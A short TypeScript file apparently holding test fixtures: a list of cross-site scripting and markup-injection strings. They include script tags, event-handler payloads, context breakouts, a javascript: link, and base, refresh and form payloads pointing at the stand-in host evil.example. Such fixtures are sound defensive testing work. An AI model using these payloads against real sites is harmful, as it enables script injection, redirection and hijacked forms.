/** Texts by which somebody outside could try to get markup or a script of their own onto a page. */
export const markupTexts = {
  "a script": "<script>alert(1)</script>",
  "an image that fails": '"><img src=x onerror=alert(1)>',
  "the end of an attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
  "the end of our script": "</script><script>alert(1)</script>",
  "the end of our style": "</style><svg onload=alert(1)>",
  "the end of the title": "</title><script>alert(1)</script>",
  "an escaped script": "&lt;script&gt;alert(1)&lt;/script&gt;",
  "a link that runs": "javascript:alert(1)",
  "a comment that is not closed": "<!--",
  "a base and a refresh":
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  "a frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "a form": '<form action="https://evil.example"><button autofocus>OK</button></form>',
  "a fragment": "#q=alert&severity=high=",
  "a selector": '"]{},*,[x="',
} as const satisfies Record<string, string>;
